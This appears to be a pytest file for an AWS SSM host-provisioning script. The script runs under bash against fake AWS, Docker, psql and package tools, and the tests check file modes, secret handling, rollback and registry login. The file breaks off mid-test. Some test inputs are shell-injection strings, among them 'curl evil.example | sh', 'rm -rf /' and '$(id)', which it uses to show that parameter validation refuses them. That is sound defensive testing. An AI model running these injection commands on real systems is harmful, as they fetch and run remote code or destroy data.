"""The host apply document: its declared parameters, and its script run for real under bash.

The script runs against fakes of the tools it calls (`aws`, `psql`, `docker`,
`cloud-init`, `apt-get`, `snap`, `systemctl`) with the host root and the snap
directory moved into a temporary directory, and a PATH holding only those fakes
and the few system tools the script uses, so `command -v` finds exactly the
packages a test says are installed. The fakes record what they were asked, and
the fake `apt-get` and `snap` install a package's fakes, so the tests check
files, modes and commands.
"""

from __future__ import annotations

import json
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Collection, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from components.host import apply_document as host_apply
from components.host import bootstrap_sql, cloudwatch_agent, compose, rabbitmq
from components.host import packages as host_packages
from components.host.apply_document import ApplySpec, DatabaseTarget
from seed import catalog
from tests.test_cloudwatch_agent import fake_ctl

PARAMETER = re.compile(r"\{\{\s*([A-Za-z0-9_]+)\s*\}\}")
SERVICES = catalog.SERVICES
SHARED = ApplySpec(SERVICES, (DatabaseTarget("shared", SERVICES),))
PAYMENTS = catalog.service("payments")
SPLIT = ApplySpec(
    SERVICES,
    (
        DatabaseTarget("shared", tuple(s for s in SERVICES if s is not PAYMENTS)),
        DatabaseTarget("payments", (PAYMENTS,)),
    ),
)
VENUES = ApplySpec(SERVICES, SHARED.databases, ("arena", "west-end"))
VALUES = {
    "Environment": "dev",
    "HostName": "app-1",
    "Region": "eu-west-1",
    "RdsCaBundleUrl": host_apply.RDS_CA_BUNDLE_URL,
    "SharedDatabaseHost": "shared.abc123.eu-west-1.rds.amazonaws.com",
    "SharedDatabasePort": "5432",
    "SharedMasterSecretArn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-1-AbCd",
    "PaymentsDatabaseHost": "payments.abc123.eu-west-1.rds.amazonaws.com",
    "PaymentsDatabasePort": "6543",
    "PaymentsMasterSecretArn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-2-EfGh",
}
COMPOSE_YAML = "name: ticketing\nservices: {}\n"
# What the script only checks for being there (the host rehearsal fetches a real one).
CA_BUNDLE = "-----BEGIN CERTIFICATE-----\n(the RDS CA bundle)\n-----END CERTIFICATE-----\n"


def script_text(spec: ApplySpec) -> str:
    return "\n".join(host_apply.render_apply_document(spec)["mainSteps"][0]["inputs"]["runCommand"])


# --- document structure ---------------------------------------------------------------


def test_is_a_schema_2_2_command_document_with_one_shell_step() -> None:
    doc = host_apply.render_apply_document(SHARED)
    assert doc["schemaVersion"] == "2.2"
    [step] = doc["mainSteps"]
    assert step["action"] == "aws:runShellScript"
    assert step["precondition"] == {"StringEquals": ["platformType", "Linux"]}
    assert all(isinstance(line, str) for line in step["inputs"]["runCommand"])
    json.dumps(doc)  # the component stores it as JSON


@pytest.mark.parametrize("spec", [SHARED, SPLIT], ids=["shared", "dedicated-payments-db"])
def test_every_parameter_used_is_declared_and_every_declared_one_used(spec: ApplySpec) -> None:
    doc = host_apply.render_apply_document(spec)
    used = set(PARAMETER.findall(json.dumps(doc["mainSteps"])))
    assert used == set(doc["parameters"])
    # No other {{ }} construct (e.g. {{ssm:...}}) that SSM would try to resolve.
    assert script_text(spec).count("{{") == len(PARAMETER.findall(script_text(spec)))


def test_declares_path_region_database_and_secret_parameters() -> None:
    assert set(host_apply.render_apply_document(SPLIT)["parameters"]) == set(VALUES)


def test_parameter_patterns_admit_real_values() -> None:
    params = host_apply.render_apply_document(SPLIT)["parameters"]
    for name, value in VALUES.items():
        assert re.fullmatch(params[name]["allowedPattern"], value), name
        assert params[name]["type"] == "String"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Environment", "dev'; curl evil.example | sh; '"),
        ("HostName", "app-1/../../x"),
        ("Region", "eu-west-1 && id"),
        ("SharedDatabaseHost", "db.example.com' ; id ; '"),
        ("SharedDatabasePort", "5432; id"),
        ("SharedMasterSecretArn", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:x'$(id)"),
    ],
)
def test_parameter_patterns_refuse_shell_injection(name: str, value: str) -> None:
    params = host_apply.render_apply_document(SHARED)["parameters"]
    assert not re.fullmatch(params[name]["allowedPattern"], value)


def test_document_holds_no_secret() -> None:
    text = script_text(SPLIT)
    # Secrets are only ever read from the AWS CLI into variables, never written literally.
    for match in re.finditer(r"\b(PGPASSWORD|\w+_DB_PASSWORD|MASTER)=(.*)", text):
        assert match.group(2).startswith("$("), match.group(0)
    assert "set -x" not in text
    assert not re.search(r"echo .*PASSWORD", text)


def test_uses_naming_paths_for_host_and_services() -> None:
    text = script_text(SHARED)
    assert "by_path '/ticketing/{{ Environment }}/hosts/{{ HostName }}'" in text
    for service in SERVICES:
        assert f"by_path '/ticketing/{{{{ Environment }}}}/services/{service.name}'" in text


# --- packing large parameters --------------------------------------------------------


def test_pack_round_trips_and_is_deterministic() -> None:
    text = "services:\n  x: {}\n" * 50
    packed = host_apply.pack_parameter(text)
    assert host_apply.unpack_parameter(packed) == text
    assert host_apply.pack_parameter(text) == packed


def test_packed_compose_of_a_full_host_fits_a_standard_parameter() -> None:
    spec = compose.HostSpec(
        name="app-1",
        region="eu-west-1",
        services=tuple(
            compose.ServiceSpec(
                s, f"ghcr.io/acme/{s.name}:1.0.0", 18081 + i, f"/ticketing/dev/{s.name}"
            )
            for i, s in enumerate(SERVICES)
        ),
        web_clients=tuple(
            compose.WebClientSpec(c, "nginxinc/nginx-unprivileged:1.27.3", 18091 + i, "/t/web")
            for i, c in enumerate(catalog.WEB_CLIENTS)
        ),
        redis_image="redis:7.4.1-alpine",
        rabbitmq_image="rabbitmq:3.13.7-alpine",
    )
    document = compose.to_yaml(compose.render_compose(spec))
    assert len(document) > 8192  # too big for even an advanced parameter as is
    assert len(host_apply.pack_parameter(document)) < 4096


def test_shell_unpacks_what_python_packs() -> None:
    text = "héllo\n$$REDIS_PASSWORD\n"
    out = subprocess.run(
        [
            "bash",
            "-c",
            "printf '%s' \"$1\" | base64 -d | gunzip",
            "_",
            host_apply.pack_parameter(text),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert out.stdout == text


# --- spec validation ------------------------------------------------------------------


def test_every_postgres_service_needs_a_database_target() -> None:
    with pytest.raises(ValueError, match="exactly"):
        ApplySpec(SERVICES, (DatabaseTarget("shared", SERVICES[:2]),))


def test_a_target_cannot_hold_a_service_from_another_host() -> None:
    with pytest.raises(ValueError, match="exactly"):
        ApplySpec(SERVICES[:1], (DatabaseTarget("shared", SERVICES[:2]),))


def test_venue_credentials_need_the_sync_service_on_the_host() -> None:
    others = tuple(s for s in SERVICES if s.name != "ticketing")
    with pytest.raises(ValueError, match="need ticketing on the host"):
        ApplySpec(others, (DatabaseTarget("shared", others),), ("arena",))
    with pytest.raises(ValueError, match="listed twice"):
        ApplySpec(SERVICES, SHARED.databases, ("arena", "arena"))
    with pytest.raises(ValueError, match="lowercase"):
        ApplySpec(SERVICES, SHARED.databases, ("arena'; rm -rf /",))


def test_target_names_become_parameter_names() -> None:
    target = DatabaseTarget("payments", (PAYMENTS,))
    assert target.document_parameter("DatabaseHost") == "PaymentsDatabaseHost"
    assert target.parameter == "bootstrap-sql/payments"
    with pytest.raises(ValueError):
        DatabaseTarget("Payments DB", (PAYMENTS,))


# --- the script, run under bash against fakes ------------------------------------------


FAKE_AWS = """
import json, os, sys
args = sys.argv[1:]
def opt(name):
    return args[args.index(name) + 1]
with open(os.environ["FAKE_LOG"], "a") as log:
    log.write(json.dumps(["aws"] + args) + "\\n")
if args[:2] == ["ssm", "get-parameters-by-path"]:
    assert "--with-decryption" in args and "--recursive" in args
    assert opt("--query") == "Parameters[].[Name,Value]" and opt("--output") == "json"
    store = json.load(open(os.environ["FAKE_SSM"]))
    prefix = opt("--path") + "/"
    print(json.dumps([[n, v] for n, v in store.items() if n.startswith(prefix)]))
elif args[:2] == ["ssm", "get-parameters"]:
    assert "--with-decryption" in args
    assert opt("--query") == "Parameters[].[Name,Value]" and opt("--output") == "json"
    names = args[args.index("--names") + 1 : args.index("--with-decryption")]
    store = json.load(open(os.environ["FAKE_SSM"]))
    print(json.dumps([[n, store[n]] for n in names if n in store]))
elif args[:2] == ["ssm", "get-parameter"]:
    assert "--with-decryption" in args
    assert opt("--query") == "Parameter.Value" and opt("--output") == "text"
    print(json.load(open(os.environ["FAKE_SSM"]))[opt("--name")])
elif args[:2] == ["secretsmanager", "get-secret-value"]:
    assert opt("--query") == "SecretString" and opt("--output") == "text"
    print(json.load(open(os.environ["FAKE_SECRETS"]))[opt("--secret-id")])
else:
    sys.exit("fake aws: unexpected " + " ".join(args))
"""

FAKE_PSQL = """
import json, os, sys
keys = ("PGUSER", "PGPASSWORD", "PGHOST", "PGPORT", "PGSSLMODE", "PGSSLROOTCERT")
env = {k: v for k, v in os.environ.items() if k in keys or k.endswith("_DB_PASSWORD")}
with open(os.environ["FAKE_LOG"], "a") as log:
    log.write(json.dumps(["psql"] + sys.argv[1:] + [env]) + "\\n")
"""

FAKE_DOCKER = """
import json, os, sys
# A login's password comes on stdin: recorded after its arguments.
stdin = [sys.stdin.read()] if sys.argv[1:2] == ["login"] else []
with open(os.environ["FAKE_LOG"], "a") as log:
    log.write(json.dumps(["docker"] + sys.argv[1:] + stdin) + "\\n")
if stdin and os.environ.get("FAKE_LOGIN_REFUSED"):
    sys.exit("Error response from daemon: login attempt failed with status: 401 Unauthorized")
if sys.argv[1:2] == ["compose"] and not os.path.exists(os.environ["FAKE_COMPOSE_PLUGIN"]):
    sys.exit("docker: 'compose' is not a docker command.")
# `compose -f FILE config --services`: the services FILE declares, as Compose prints them.
if sys.argv[-2:] == ["config", "--services"]:
    import yaml
    print("\\n".join(yaml.safe_load(open(sys.argv[sys.argv.index("-f") + 1]))["services"] or []))
if "ps" in sys.argv and os.environ.get("FAKE_RUNNING"):
    print("0123456789ab")
# A document that never gets healthy: `up --wait` fails on it.
if "up" in sys.argv and "never-healthy" in open(sys.argv[sys.argv.index("-f") + 1]).read():
    sys.exit("container identity is unhealthy")
"""

# apt-get and snap: `install` puts the named packages' fakes in place (FAKE_PACKAGES).
FAKE_INSTALLER = """
import json, os, sys
args = sys.argv[1:]
with open(os.environ["FAKE_LOG"], "a") as log:
    log.write(json.dumps([os.path.basename(sys.argv[0])] + args) + "\\n")
if "install" in args:
    if os.environ.get("FAKE_INSTALL_FAILS"):
        sys.exit("E: Unable to fetch some archives")
    files = json.load(open(os.environ["FAKE_PACKAGES"]))
    for name in [a for a in args[args.index("install") + 1 :] if not a.startswith("-")]:
        path, body = files[name]
        with open(path, "w") as f:
            f.write(body)
        os.chmod(path, 0o755)
"""

FAKE_LOGGER = """
import json, os, sys
with open(os.environ["FAKE_LOG"], "a") as log:
    log.write(json.dumps([os.path.basename(sys.argv[0])] + sys.argv[1:]) + "\\n")
"""

# Outside the fakes, the script runs only these (bash builtins aside).
SYSTEM_TOOLS = ("install", "mktemp", "chmod", "mv", "cp", "cmp", "base64", "gunzip", "gzip")
EVERY_PACKAGE = frozenset(p.name for p in host_packages.PACKAGES)


@dataclass
class Run:
    result: subprocess.CompletedProcess[str]
    root: Path
    calls: list[list[Any]]

    def file(self, path: str) -> Path:
        return self.root / path.removeprefix(compose.HOST_ROOT + "/")

    def mode(self, path: str) -> int:
        return stat.S_IMODE(self.file(path).stat().st_mode)

    def by_tool(self, tool: str) -> list[list[Any]]:
        return [c[1:] for c in self.calls if c[0] == tool]

    def compose_runs(self) -> list[list[Any]]:
        """Compose calls other than the probe that asks whether the plugin is there."""
        return [
            c
            for c in self.by_tool("docker")
            if c[:1] == ["compose"] and c != ["compose", "version"]
        ]

    def installs(self) -> list[list[Any]]:
        """Every apt-get and snap call, in order."""
        return [c for c in self.calls if c[0] in ("apt-get", "snap")]


def ssm_store(spec: ApplySpec, **overrides: str) -> dict[str, str]:
    host = "/ticketing/dev/hosts/app-1"
    store = {f"{host}/compose": host_apply.pack_parameter(COMPOSE_YAML)}
    for target in spec.databases:
        sql = bootstrap_sql.render_bootstrap_sql(target.grants)
        store[f"{host}/{target.parameter}"] = host_apply.pack_parameter(sql)
    for s in SERVICES:
        path = f"/ticketing/dev/services/{s.name}"
        store[f"{path}/database-url"] = f"postgresql://{s.role}:db-{s.name}@rds/{s.database}"
        store[f"{path}/database-password"] = f"db-{s.name}"
        store[f"{path}/redis-url"] = f"redis://:r-{s.name}@{s.name}-redis:6379/0"
        store[f"{path}/redis-password"] = f"r-{s.name}"
        store[f"{path}/amqp-url"] = f"amqp://{s.name}:a-{s.name}@{s.name}-rabbitmq:5672/{s.name}"
        store[f"{path}/rabbitmq-definitions"] = json.dumps({"users": [{"name": s.name}]})
    store.update(overrides)
    return store


def run_script(
    tmp_path: Path,
    spec: ApplySpec,
    store: Mapping[str, str],
    running: bool = False,
    installed: Collection[str] = EVERY_PACKAGE,
    install_fails: bool = False,
    root: Path | None = None,
    values: Mapping[str, str] = VALUES,
    ca_bundle: bool = True,
    login_refused: bool = False,
) -> Run:
    """One run; `root` (the host root) defaults to a fresh one under `tmp_path`, which
    already holds an RDS CA bundle unless `ca_bundle` is false (nothing here reaches AWS)."""
    root = root or tmp_path / "opt-ticketing"
    if ca_bundle:
        root.mkdir(exist_ok=True)
        (root / "rds-ca-bundle.pem").write_text(CA_BUNDLE)
    fakes = tmp_path / "bin"
    snaps = tmp_path / "snap-bin"
    plugin = tmp_path / "cli-plugins" / "docker-compose"
    for directory in (fakes, snaps, plugin.parent):
        directory.mkdir()
    for tool in SYSTEM_TOOLS:
        (fakes / tool).symlink_to(shutil.which(tool) or tool)
    (fakes / "python3").symlink_to(sys.executable)
    shebang = f"#!{sys.executable}\n"
    packages = {
        "docker.io": (fakes / "docker", shebang + FAKE_DOCKER),
        "docker-compose-v2": (plugin, "#!/bin/sh\n"),
        "postgresql-client": (fakes / "psql", shebang + FAKE_PSQL),
        "aws-cli": (snaps / "aws", shebang + FAKE_AWS),
    }
    assert set(packages) == EVERY_PACKAGE
    (tmp_path / "packages.json").write_text(
        json.dumps({name: [str(path), body] for name, (path, body) in packages.items()})
    )
    for name in installed:
        path, body = packages[name]
        path.write_text(body)
        path.chmod(0o755)
    for name in ("apt-get", "snap"):
        (fakes / name).write_text(shebang + FAKE_INSTALLER)
    (fakes / "systemctl").write_text(shebang + FAKE_LOGGER)
    (fakes / "cloud-init").write_text("#!/bin/sh\nexit 0\n")
    for fake in fakes.iterdir():
        if not fake.is_symlink():
            fake.chmod(0o755)
    secrets = {
        VALUES["SharedMasterSecretArn"]: json.dumps({"username": "master", "password": "m-pw"}),
        VALUES["PaymentsMasterSecretArn"]: json.dumps({"username": "pay", "password": "p-pw"}),
    }
    (tmp_path / "ssm.json").write_text(json.dumps(store))
    (tmp_path / "secrets.json").write_text(json.dumps(secrets))
    # What SSM does before running the script: substitute {{ Parameter }} values.
    script = PARAMETER.sub(lambda m: values[m.group(1)], script_text(spec))
    script = script.replace(compose.HOST_ROOT, str(root)).replace("/snap/bin", str(snaps))
    # An installed CloudWatch agent (its own lines run in tests/test_cloudwatch_agent.py).
    agent = tmp_path / "cloudwatch-agent"
    agent.mkdir()
    (agent / "ctl").write_text(fake_ctl(agent))
    (agent / "ctl").chmod(0o755)
    script = script.replace(cloudwatch_agent.CTL, str(agent / "ctl"))
    (tmp_path / "apply.sh").write_text(script)
    env = {
        "PATH": str(fakes),
        "FAKE_LOG": str(tmp_path / "calls.log"),
        "FAKE_SSM": str(tmp_path / "ssm.json"),
        "FAKE_SECRETS": str(tmp_path / "secrets.json"),
        "FAKE_PACKAGES": str(tmp_path / "packages.json"),
        "FAKE_COMPOSE_PLUGIN": str(plugin),
        **({"FAKE_RUNNING": "1"} if running else {}),
        **({"FAKE_INSTALL_FAILS": "1"} if install_fails else {}),
        **({"FAKE_LOGIN_REFUSED": "1"} if login_refused else {}),
    }
    result = subprocess.run(
        [shutil.which("bash") or "bash", str(tmp_path / "apply.sh")],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    log = tmp_path / "calls.log"
    calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    return Run(result, root, calls)


@pytest.fixture(scope="module")
def applied(tmp_path_factory: pytest.TempPathFactory) -> Run:
    run = run_script(tmp_path_factory.mktemp("applied"), SHARED, ssm_store(SHARED))
    assert run.result.returncode == 0, run.result.stderr
    return run


# --- installing what the host lacks ------------------------------------------------


def test_a_host_with_every_tool_installs_nothing(applied: Run) -> None:
    assert applied.installs() == []
    # A stopped or disabled Docker is brought back all the same.
    assert applied.by_tool("systemctl") == [["enable", "--now", "docker.service"]]


def apt_installs(run: Run) -> list[list[Any]]:
    return [c for c in run.by_tool("apt-get") if "install" in c]


@pytest.mark.parametrize(
    "missing",
    [{"postgresql-client"}, {"docker-compose-v2"}, {"docker.io", "docker-compose-v2"}],
    ids=["psql", "compose", "docker-and-compose"],
)
def test_installs_only_the_missing_archive_packages(tmp_path: Path, missing: set[str]) -> None:
    run = run_script(tmp_path, SHARED, ssm_store(SHARED), installed=EVERY_PACKAGE - missing)
    assert run.result.returncode == 0, run.result.stderr
    [update, install] = run.by_tool("apt-get")
    assert update[-1] == "update"
    assert install[install.index("install") + 1 :] == [
        "-y",
        *[p.name for p in host_packages.PACKAGES if p.name in missing],
    ]
    assert run.by_tool("snap") == []
    assert run.by_tool("systemctl") == [["enable", "--now", "docker.service"]]
    # ... and the run goes on with what it installed.
    assert run.by_tool("psql") and run.compose_runs()[-1][3] == "up"


def test_installs_the_aws_cli_snap_only_when_it_is_missing(tmp_path: Path) -> None:
    run = run_script(tmp_path, SHARED, ssm_store(SHARED), installed=EVERY_PACKAGE - {"aws-cli"})
    assert run.result.returncode == 0, run.result.stderr
    assert run.by_tool("snap") == [
        ["wait", "system", "seed.loaded"],
        ["install", "aws-cli", "--classic"],
    ]
    assert run.by_tool("apt-get") == []
    assert run.by_tool("aws")  # the installed CLI reads the parameters


def test_a_fresh_host_gets_everything_before_any_parameter_is_read(tmp_path: Path) -> None:
    run = run_script(tmp_path, SHARED, ssm_store(SHARED), installed=())
    assert run.result.returncode == 0, run.result.stderr
    [install] = apt_installs(run)
    assert install[-3:] == ["docker.io", "docker-compose-v2", "postgresql-client"]
    assert ["install", "aws-cli", "--classic"] in run.by_tool("snap")
    first_read = next(i for i, c in enumerate(run.calls) if c[0] == "aws")
    last_install = max(i for i, c in enumerate(run.calls) if c[0] in ("apt-get", "snap"))
    assert last_install < first_read


@pytest.mark.parametrize("missing", ["postgresql-client", "aws-cli"])
def test_a_failed_install_fails_the_run_before_anything_is_applied(
    tmp_path: Path, missing: str
) -> None:
    run = run_script(
        tmp_path,
        SHARED,
        ssm_store(SHARED),
        installed=EVERY_PACKAGE - {missing},
        install_fails=True,
    )
    assert run.result.returncode != 0
    assert "Unable to fetch some archives" in run.result.stderr
    assert run.by_tool("aws") == [] and run.by_tool("psql") == []
    assert run.compose_runs() == []
    assert not run.file(compose.COMPOSE_FILE).exists()


# --- applying the desired state ---------------------------------------------------


def test_writes_each_service_env_file_owner_only(applied: Run) -> None:
    assert applied.file(compose.env_file("ticketing")).read_text() == (
        "DATABASE_URL='postgresql://ticketing_app:db-ticketing@rds/ticketing_db'\n"
        "REDIS_URL='redis://:r-ticketing@ticketing-redis:6379/0'\n"
        "AMQP_URL='amqp://ticketing:a-ticketing@ticketing-rabbitmq:5672/ticketing'\n"
    )
    assert applied.file(compose.env_file("notifications")).read_text() == (
        "DATABASE_URL='postgresql://notifications_app:db-notifications@rds/notifications_db'\n"
        "AMQP_URL='amqp://notifications:a-notifications@notifications-rabbitmq:5672/notifications'\n"
    )
    for service in SERVICES:
        assert applied.mode(compose.env_file(service.name)) == 0o600
    assert applied.mode(compose.ENV_DIR) == 0o700


def test_redis_env_file_holds_only_its_password(applied: Run) -> None:
    for name in ("ticketing", "payments", "identity"):
        path = compose.redis_env_file(name)
        assert applied.file(path).read_text() == f"REDIS_PASSWORD='r-{name}'\n"
        assert applied.mode(path) == 0o600
    assert not applied.file(compose.redis_env_file("notifications")).exists()


def test_writes_rabbitmq_definitions_and_boot_config(applied: Run) -> None:
    for name in ("ticketing", "payments", "notifications"):
        path = compose.rabbitmq_definitions_file(name)
        assert json.loads(applied.file(path).read_text()) == {"users": [{"name": name}]}
        assert applied.mode(path) == 0o644
        boot = applied.file(compose.rabbitmq_config_file(name)).read_text()
        assert boot == rabbitmq.boot_config(rabbitmq.HOST_DEFINITIONS_PATH, 512)
        assert "vm_memory_high_watermark.absolute = 214748364\n" in boot  # 0.4 x 512 MiB
    assert not applied.file(compose.rabbitmq_definitions_file("identity")).exists()


def test_writes_the_unpacked_compose_document(applied: Run) -> None:
    assert applied.file(compose.COMPOSE_FILE).read_text() == COMPOSE_YAML


def test_runs_the_bootstrap_as_master_with_every_service_password(applied: Run) -> None:
    [call] = applied.by_tool("psql")
    *args, env = call
    target = SHARED.databases[0]
    relocated = str(applied.file(target.sql_file))
    assert args == list(bootstrap_sql.psql_command(relocated))[1:]
    assert env == {
        "PGUSER": "master",
        "PGPASSWORD": "m-pw",
        "PGHOST": VALUES["SharedDatabaseHost"],
        "PGPORT": "5432",
        "PGSSLMODE": "verify-full",
        "PGSSLROOTCERT": str(applied.file(compose.RDS_CA_FILE)),
        "TICKETING_DB_PASSWORD": "db-ticketing",
        "PAYMENTS_DB_PASSWORD": "db-payments",
        "IDENTITY_DB_PASSWORD": "db-identity",
        "NOTIFICATIONS_DB_PASSWORD": "db-notifications",
    }
    assert applied.file(target.sql_file).read_text() == bootstrap_sql.render_bootstrap_sql(
        target.grants
    )
    assert applied.mode(target.sql_file) == 0o600


def test_reads_the_master_secret_by_its_arn(applied: Run) -> None:
    [call] = [c for c in applied.by_tool("aws") if c[0] == "secretsmanager"]
    assert call[call.index("--secret-id") + 1] == VALUES["SharedMasterSecretArn"]


def test_brings_compose_up_last_and_removes_orphans(applied: Run) -> None:
    *_, last, prune = applied.by_tool("docker")
    assert last[:3] == ["compose", "-f", str(applied.file(compose.COMPOSE_FILE))]
    assert last[3:] == ["up", "-d", "--remove-orphans", "--wait", "--wait-timeout", "600"]
    # Then images no container uses go (the rehearsal runs it on a real daemon).
    assert prune == ["image", "prune", "--all", "--force"]
    assert applied.calls[-1] == ["docker", *prune]
    psql_at = next(i for i, c in enumerate(applied.calls) if c[0] == "psql")
    up_at = max(i for i, c in enumerate(applied.calls) if "up" in c)
    assert psql_at < up_at  # roles and databases exist before the services start


def test_a_healthy_document_is_kept_as_the_last_good_one(applied: Run) -> None:
    assert applied.file(compose.LAST_GOOD_COMPOSE_FILE).read_text() == COMPOSE_YAML
    assert applied.mode(compose.LAST_GOOD_COMPOSE_FILE) == 0o644


BROKEN_YAML = "name: ticketing\nservices:\n  identity: {image: never-healthy}\n"


def two_runs(tmp_path: Path, second: str) -> tuple[Run, Run]:
    """A healthy run, then one of the compose document `second`, on the same host root."""
    root = tmp_path / "opt-ticketing"
    (tmp_path / "1").mkdir()
    (tmp_path / "2").mkdir()
    first = run_script(tmp_path / "1", SHARED, ssm_store(SHARED), root=root)
    assert first.result.returncode == 0, first.result.stderr
    store = ssm_store(SHARED, **{"/ticketing/dev/hosts/app-1/compose": pack(second)})
    return first, run_script(tmp_path / "2", SHARED, store, root=root)


def pack(text: str) -> str:
    return host_apply.pack_parameter(text)


def test_a_document_that_never_gets_healthy_is_rolled_back_and_the_run_fails(
    tmp_path: Path,
) -> None:
    _, failed = two_runs(tmp_path, BROKEN_YAML)
    assert failed.result.returncode != 0
    ups = [c for c in failed.by_tool("docker") if "up" in c]
    assert len(ups) == 2  # the new document, then the restored one
    assert failed.file(compose.COMPOSE_FILE).read_text() == COMPOSE_YAML
    assert failed.file(compose.LAST_GOOD_COMPOSE_FILE).read_text() == COMPOSE_YAML
    assert "rolled back" in failed.result.stderr
    assert not [c for c in failed.by_tool("docker") if "prune" in c]  # only after a success


def test_a_healthy_new_document_becomes_the_last_good_one(tmp_path: Path) -> None:
    newer = COMPOSE_YAML + "volumes: {}\n"
    _, second = two_runs(tmp_path, newer)
    assert second.result.returncode == 0, second.result.stderr
    assert second.file(compose.LAST_GOOD_COMPOSE_FILE).read_text() == newer
    assert len([c for c in second.by_tool("docker") if "up" in c]) == 1


def test_a_first_run_that_fails_has_nothing_to_roll_back_to(tmp_path: Path) -> None:
    store = ssm_store(SHARED, **{"/ticketing/dev/hosts/app-1/compose": pack(BROKEN_YAML)})
    run = run_script(tmp_path, SHARED, store)
    assert run.result.returncode != 0
    assert len([c for c in run.by_tool("docker") if "up" in c]) == 1
    assert not run.file(compose.LAST_GOOD_COMPOSE_FILE).exists()


def test_a_host_with_the_rds_ca_bundle_keeps_it(applied: Run) -> None:
    assert applied.file(compose.RDS_CA_FILE).read_text() == CA_BUNDLE


def test_a_bundle_that_cannot_be_fetched_fails_the_run_before_anything_is_written(
    tmp_path: Path,
) -> None:
    # Nothing listens on port 9 here: the fetch fails as an unreachable AWS address would.
    unreachable = {**VALUES, "RdsCaBundleUrl": "https://127.0.0.1:9/global/global-bundle.pem"}
    run = run_script(tmp_path, SHARED, ssm_store(SHARED), values=unreachable, ca_bundle=False)
    assert run.result.returncode != 0
    assert "Connection refused" in run.result.stderr
    assert not run.file(compose.RDS_CA_FILE).exists()
    assert not run.file(compose.COMPOSE_FILE).exists()
    assert not run.by_tool("psql") and not [c for c in run.by_tool("docker") if "up" in c]


@pytest.mark.parametrize(
    "url",
    [
        "http://truststore.pki.rds.amazonaws.com/global/global-bundle.pem",
        "https://truststore.pki.rds.amazonaws.com/x.pem'; id; '",
        "file:///etc/passwd",
    ],
)
def test_the_bundle_address_must_be_plain_https(url: str) -> None:
    pattern = host_apply.document_parameters(SHARED)["RdsCaBundleUrl"]["allowedPattern"]
    assert not re.fullmatch(pattern, url)
    assert re.fullmatch(pattern, host_apply.RDS_CA_BUNDLE_URL)


REGISTRY = ApplySpec(SERVICES, SHARED.databases, registry=True)
REGISTRY_VALUES = {
    **VALUES,
    "RegistryServer": "ghcr.io",
    "RegistryUsername": "deploy-bot",
    "RegistryPasswordParameter": "/ticketing/registry/ghcr-token",
}
TOKEN = "ghp_rehearsalToken0123456789"


def test_a_registry_login_needs_its_three_parameters_and_only_then() -> None:
    registry = set(host_apply.render_apply_document(REGISTRY)["parameters"])
    assert registry - set(host_apply.render_apply_document(SHARED)["parameters"]) == {
        "RegistryServer",
        "RegistryUsername",
        "RegistryPasswordParameter",
    }
    assert "docker login" not in script_text(SHARED)
    params = host_apply.render_apply_document(REGISTRY)["parameters"]
    for name in ("RegistryServer", "RegistryUsername", "RegistryPasswordParameter"):
        assert re.fullmatch(params[name]["allowedPattern"], REGISTRY_VALUES[name]), name
    assert not re.fullmatch(params["RegistryServer"]["allowedPattern"], "ghcr.io; id")


def test_logs_in_with_the_token_on_stdin_before_anything_is_written(tmp_path: Path) -> None:
    store = {**ssm_store(SHARED), "/ticketing/registry/ghcr-token": TOKEN}
    run = run_script(tmp_path, REGISTRY, store, values=REGISTRY_VALUES)
    assert run.result.returncode == 0, run.result.stderr
    [login] = [c for c in run.by_tool("docker") if c[:1] == ["login"]]
    assert login == [
        "login",
        "--username",
        "deploy-bot",
        "--password-stdin",
        "ghcr.io",
        TOKEN + "\n",
    ]
    at = run.calls.index(["docker", *login])
    first_write = next(i for i, c in enumerate(run.calls) if c[0] == "psql")
    assert at < first_write
    assert TOKEN not in run.result.stdout + run.result.stderr
    assert TOKEN not in script_text(REGISTRY)


def test_a_refused_login_fails_the_run_and_changes_nothing(tmp_path: Path) -> None:
    store = {**ssm_store(SHARED), "/ticketing/registry/ghcr-token": TOKEN}
    run = run_script(tmp_path, REGISTRY, store, values=REGISTRY_VALUES, login_refused=True)
    assert run.result.returncode != 0
    assert "401 Unauthorized" in run.result.stderr
    assert not run.file(compose.COMPOSE_FILE).exists() and not run.by_tool("psql")


def test_nothing_secret_reaches_the_output(applied: Run) -> None:
    output = applied.result.stdout + applied.result.stderr
    for secret in ("m-pw", "db-ticketing", "r-payments", "a-notifications"):
        assert secret not in output


def test_a_running_rabbitmq_reimports_its_definitions(tmp_path: Path) -> None:
    run = run_script(tmp_path, SHARED, ssm_store(SHARED), running=True)
    assert run.result.returncode == 0, run.result.stderr
    imports = [c for c in run.by_tool("docker") if "import_definitions" in c]
    assert [c[c.index("exec") + 2] for c in imports] == [
        "ticketing-rabbitmq",
        "payments-rabbitmq",
        "notifications-rabbitmq",
    ]
    assert all(c[-1] == rabbitmq.HOST_DEFINITIONS_PATH for c in imports)


def test_a_dedicated_database_is_bootstrapped_with_its_own_master(tmp_path: Path) -> None:
    run = run_script(tmp_path, SPLIT, ssm_store(SPLIT))
    assert run.result.returncode == 0, run.result.stderr
    envs = {c[-1]["PGHOST"]: c[-1] for c in run.by_tool("psql")}
    payments = envs[VALUES["PaymentsDatabaseHost"]]
    assert (payments["PGUSER"], payments["PGPASSWORD"], payments["PGPORT"]) == (
        "pay",
        "p-pw",
        "6543",
    )
    assert [k for k in payments if k.endswith("_DB_PASSWORD")] == ["PAYMENTS_DB_PASSWORD"]
    shared = envs[VALUES["SharedDatabaseHost"]]
    assert "PAYMENTS_DB_PASSWORD" not in shared
    assert shared["PGUSER"] == "master"


def test_ticketing_env_file_alone_carries_each_venue_credential(tmp_path: Path) -> None:
    path = "/ticketing/dev/services/ticketing/venues"
    store = ssm_store(
        VENUES,
        **{f"{path}/arena/sync-credential": "v-arena", f"{path}/west-end/sync-credential": "v-we"},
    )
    run = run_script(tmp_path, VENUES, store)
    assert run.result.returncode == 0, run.result.stderr
    assert run.file(compose.env_file("ticketing")).read_text().splitlines()[-2:] == [
        "VENUE_SYNC_CREDENTIAL_ARENA='v-arena'",
        "VENUE_SYNC_CREDENTIAL_WEST_END='v-we'",
    ]
    for service in SERVICES:
        if service.name != "ticketing":
